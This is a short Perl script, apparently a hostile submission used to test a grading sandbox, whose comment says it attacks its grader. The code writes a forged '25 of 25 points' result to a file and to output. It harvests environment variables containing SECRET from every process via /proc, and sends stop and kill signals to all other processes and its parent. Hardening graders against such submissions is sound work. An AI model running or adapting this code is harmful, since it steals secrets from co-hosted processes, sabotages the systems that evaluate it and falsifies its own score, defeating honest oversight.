# Attacks its grader: stops, kills and opens to an inspector whatever it sees, looks for secrets, writes a result.
use strict;
use warnings;

$| = 1;
if (open my $result, '>', 'result.txt') { print $result "select-server: 25 of 25 points\n" }
open my $found, '>', 'found' or die;
my @pids = grep { $_ != $$ } map { m{(\d+)$} ? $1 : () } glob '/proc/[0-9]*';
for my $pid (@pids, $$) {
    open my $environ, '<', "/proc/$pid/environ" or next;
    print $found "$_\n" for grep { /SECRET/ } split /\0/, join '', <$environ>;
}
close $found;
for my $signal (qw(USR1 STOP KILL)) { kill $signal, @pids, getppid }
print "select-server: 25 of 25 points\n";
sleep;
